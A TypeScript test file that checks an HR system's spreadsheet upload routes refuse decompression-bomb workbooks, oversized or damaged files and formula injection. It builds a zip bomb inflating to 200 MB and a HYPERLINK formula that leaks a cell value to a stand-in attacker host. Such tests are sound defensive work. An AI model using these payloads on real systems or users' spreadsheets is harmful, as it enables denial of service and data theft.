import { once } from 'node:events';
import { crc32, createDeflateRaw } from 'node:zlib';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { BULK_COLUMNS } from '@tenure/domain/onboarding';
import { UPLOAD_MESSAGES } from '@tenure/domain/uploads';
import { zipArchive, type RawZipEntry } from '../../src/platform/zip.ts';
import { createTestApp, describeEachDatabase, loginAs, type TestApp } from '../harness.ts';
import { sendFile } from '../multipart.ts';
import { readWorkbook, xlsxFile } from '../sheet-files.ts';

const MiB = 1024 * 1024;
const EMPLOYEE_HEADINGS = BULK_COLUMNS.employee.map((c) => c.heading);

/** An entry deflated as it is produced, chunk by chunk, so that a 200 MB text never stands in memory. */
async function deflatedEntry(name: string, parts: Iterable<string>): Promise<RawZipEntry> {
  const deflater = createDeflateRaw();
  const out: Buffer[] = [];
  deflater.on('data', (chunk: Buffer) => out.push(chunk));
  let crc = 0;
  let size = 0;
  for (const part of parts) {
    const bytes = Buffer.from(part);
    crc = crc32(bytes, crc);
    size += bytes.length;
    if (!deflater.write(bytes)) await once(deflater, 'drain');
  }
  deflater.end();
  await once(deflater, 'end');
  return { name, method: 8, crc, size, data: Buffer.concat(out) };
}

const SHEET_START =
  '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
const SHEET_END = '</sheetData></worksheet>';

/** A minimal .xlsx (one sheet, shared strings optional) around the given sheet and shared-strings parts. */
async function handMadeXlsx(sheet: RawZipEntry, sharedStrings?: RawZipEntry): Promise<Uint8Array> {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const relationships = 'http://schemas.openxmlformats.org/package/2006/relationships';
  const officeRelationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const parts: Record<string, string> = {
    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    '_rels/.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${relationships}"><Relationship Id="rId1" Type="${officeRelationships}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${main}" xmlns:r="${officeRelationships}"><sheets><sheet name="Upload" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${relationships}"><Relationship Id="rId1" Type="${officeRelationships}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
  };
  const entries = await Promise.all(Object.entries(parts).map(([name, text]) => deflatedEntry(name, [text])));
  return new Uint8Array(Buffer.concat(zipArchive([...entries, ...(sharedStrings ? [sharedStrings] : []), sheet])));
}

/** `times` texts, joined a thousand at a time (a deflater written to a million times is slow). */
function* repeated(times: number, text: (i: number) => string): Generator<string> {
  for (let from = 0; from < times; from += 1000)
    yield Array.from({ length: Math.min(1000, times - from) }, (_, i) => text(from + i)).join('');
}

const headingRow = `<row r="1"><c r="A1" t="inlineStr"><is><t>Employee Number</t></is></c></row>`;

/** The sheet of a workbook bomb: one inline-string cell of `megabytes` MB of 'A's, which deflates about a thousandfold. */
function* bombSheet(megabytes: number): Generator<string> {
  yield `${SHEET_START}${headingRow}<row r="2"><c r="A2" t="inlineStr"><is><t>`;
  const chunk = 'A'.repeat(MiB);
  for (let i = 0; i < megabytes; i++) yield chunk;
  yield `</t></is></c></row>${SHEET_END}`;
}

/** Issue 31 items 3 and 6: uploaded workbooks are read within bounds, before any transaction, and come back as values only. */
describeEachDatabase('uploaded workbooks', (kind) => {
  let t: TestApp;
  let hr: Record<string, string>;
  let director: Record<string, string>;
  let routes: { url: string; headers: () => Record<string, string> }[];
  beforeAll(async () => {
    t = await createTestApp(kind);
    hr = (await loginAs(t.app, 'hrexec01')).headers;
    director = (await loginAs(t.app, 'hrdirector')).headers;
    routes = [
      { url: '/api/hrms/hris/employee/bulk-upload/validate', headers: () => hr },
      { url: '/api/hrms/hris/employee/bulk-upload/validate/workbook', headers: () => hr },
      { url: '/api/timesheet/v2/timesheet-upload/validate', headers: () => hr },
      { url: '/api/hrms/leave-attendance/opening-balances/upload', headers: () => director },
    ];
  });
  afterAll(() => t.close());

  const expectRefused = async (bytes: Uint8Array, code: string, message: string) => {
    for (const route of routes) {
      const started = performance.now();
      const reply = await sendFile(t.app, route.url, route.headers(), bytes);
      expect(reply.statusCode, `${route.url} ${reply.body.slice(0, 200)}`).toBe(400);
      expect(reply.json(), route.url).toEqual({ message, code, fieldErrors: { file: message } });
      expect(performance.now() - started, route.url).toBeLessThan(3000);
    }
  };

  it('a workbook whose one cell unpacks to 200 MB is refused with 400 within bounds, whether its entry declares its size or lies about it', async () => {
    const bomb = await deflatedEntry('xl/worksheets/sheet1.xml', bombSheet(200));
    const honest = await handMadeXlsx(bomb);
    expect(honest.length).toBeLessThan(MiB);
    await expectRefused(honest, 'WORKBOOK_TOO_LARGE', UPLOAD_MESSAGES.workbookTooLarge);
    await expectRefused(
      await handMadeXlsx({ ...bomb, size: 4096 }),
      'WORKBOOK_TOO_LARGE',
      UPLOAD_MESSAGES.workbookTooLarge,
    );
  });

  it('too many rows or shared strings, however small the file, a value beyond the columns read or a cell longer than Excel allows are 400s', async () => {
    const rows = await handMadeXlsx(
      await deflatedEntry('xl/worksheets/sheet1.xml', [
        SHEET_START,
        headingRow,
        ...repeated(200_001, (i) => `<row r="${i + 2}"/>`),
        SHEET_END,
      ]),
    );
    await expectRefused(rows, 'WORKBOOK_TOO_LARGE', UPLOAD_MESSAGES.workbookTooLarge);

    const strings = await deflatedEntry('xl/sharedStrings.xml', [
      '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
      ...repeated(1_000_001, () => '<si><t>a</t></si>'),
      '</sst>',
    ]);
    const sharedStrings = await handMadeXlsx(
      await deflatedEntry('xl/worksheets/sheet1.xml', [SHEET_START, headingRow, SHEET_END]),
      strings,
    );
    await expectRefused(sharedStrings, 'WORKBOOK_TOO_LARGE', UPLOAD_MESSAGES.workbookTooLarge);

    const wide = Array.from({ length: 1_001 }, (_, i) =>
      i === 0 ? 'Employee Number' : i === 1_000 ? 'far right' : '',
    );
    await expectRefused(await xlsxFile(wide, [['EMP0006']]), 'TOO_MANY_COLUMNS', UPLOAD_MESSAGES.tooManyColumns(1_000));
    await expectRefused(
      await xlsxFile(['Employee Number'], [['EMP0006'], ['x'.repeat(32_768)]]),
      'CELL_TOO_LONG',
      UPLOAD_MESSAGES.cellTooLong(3, 32_767),
    );
  });

  it('a sheet whose cells lack their address, or a damaged workbook, is a 400', async () => {
    const noAddress = await handMadeXlsx(
      await deflatedEntry('xl/worksheets/sheet1.xml', [
        SHEET_START,
        '<row r="1"><c t="inlineStr"><is><t>Employee Number</t></is></c></row><row r="2"><c t="inlineStr"><is><t>EMP0006</t></is></c></row>',
        SHEET_END,
      ]),
    );
    await expectRefused(noAddress, 'WORKBOOK_UNREADABLE', UPLOAD_MESSAGES.workbookUnreadable);
    const good = await xlsxFile(['Employee Number'], [['EMP0006']]);
    const damaged = Buffer.from(good);
    damaged.fill(0x41, 200, 400);
    await expectRefused(damaged, 'WORKBOOK_UNREADABLE', UPLOAD_MESSAGES.workbookUnreadable);
  });

  it('the annotated workbook gives back values only: a formula as its result, text that would run as a formula kept text', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Joiners');
    sheet.addRow(EMPLOYEE_HEADINGS);
    sheet.addRow(
      EMPLOYEE_HEADINGS.map((heading) =>
        heading === 'First Name'
          ? { formula: 'HYPERLINK("https://evil.example/?leak="&B2,"Asha")', result: 'Asha' }
          : heading === 'Last Name'
            ? '=1+2'
            : heading === 'Middle Name'
              ? '@SUM(A1)'
              : '',
      ),
    );
    const upload = new Uint8Array(await book.xlsx.writeBuffer());
    const reply = await sendFile(t.app, '/api/hrms/hris/employee/bulk-upload/validate/workbook', hr, upload);
    expect(reply.statusCode, reply.body.slice(0, 200)).toBe(200);
    const annotated = (await readWorkbook(reply.rawPayload)).worksheets[0]!;
    const column = (heading: string) => EMPLOYEE_HEADINGS.indexOf(heading) + 1;
    const cells = [column('First Name'), column('Last Name'), column('Middle Name')].map((c) =>
      annotated.getRow(2).getCell(c),
    );
    expect(cells.map((cell) => cell.type)).toEqual([
      ExcelJS.ValueType.String,
      ExcelJS.ValueType.String,
      ExcelJS.ValueType.String,
    ]);
    expect(cells.map((cell) => cell.value)).toEqual(['Asha', "'=1+2", "'@SUM(A1)"]);
    annotated.eachRow((row) => row.eachCell((cell) => expect(cell.formula, cell.address).toBeUndefined()));
    // The errors are still marked on the rows they belong to.
    expect(String(annotated.getRow(2).getCell(annotated.getRow(1).cellCount).value)).not.toBe('');
  });
});
